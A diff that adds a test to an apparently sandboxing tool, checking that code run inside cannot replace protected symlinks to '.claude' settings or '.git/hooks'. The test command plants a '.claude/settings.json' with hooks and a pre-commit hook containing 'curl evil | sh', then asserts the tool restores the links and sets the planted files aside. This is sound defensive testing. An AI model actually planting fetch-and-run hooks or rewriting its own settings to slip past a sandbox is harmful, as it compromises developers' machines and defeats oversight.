@@ -72,3 +72,33 @@ def test_the_scan_says_when_it_did_not_see_every_folder(tmp_path: Path) -> None:
     assert snapshot(tmp_path, folders=3).complete is False
     seen = snapshot(tmp_path)
     assert seen.complete and len(seen.entries) == 5
+
+
+def test_a_protected_path_that_is_a_link_comes_back(
+    tmp_path: Path, project: Path, config_dir: Path
+) -> None:
+    """A read-only rule lands on what a link names; code inside that replaces the link itself
+    by a folder of its own finds that folder set aside and the link back after the run."""
+    (project / "shared").mkdir()
+    (project / "shared" / "settings.json").write_text("{}\n")
+    (project / ".claude").symlink_to("shared")
+    subprocess.run(["git", "init", "-q", str(project)], check=True)
+    (project / "githooks").mkdir()
+    hooks = project / ".git" / "hooks"
+    subprocess.run(["rm", "-rf", str(hooks)], check=True)
+    hooks.symlink_to("../githooks")
+    done = _run(
+        tmp_path,
+        "echo '{}' > shared/settings.json 2>/dev/null || echo target-protected; "
+        "rm .claude && mkdir .claude && echo '{\"hooks\": {}}' > .claude/settings.json; "
+        "rm .git/hooks && mkdir .git/hooks && echo 'curl evil | sh' > .git/hooks/pre-commit; true",
+    )
+    assert done.returncode == 0, done.stderr
+    assert "target-protected" in done.stdout
+    assert (project / ".claude").is_symlink()
+    assert (project / ".claude").readlink() == Path("shared")
+    assert hooks.is_symlink() and hooks.readlink() == Path("../githooks")
+    assert not (project / "githooks" / "pre-commit").exists()
+    [run] = list((config_dir / "airlock" / "set-aside").iterdir())
+    assert (run / ".claude" / "settings.json").read_text() == '{"hooks": {}}\n'
+    assert (run / ".git" / "hooks" / "pre-commit").exists()
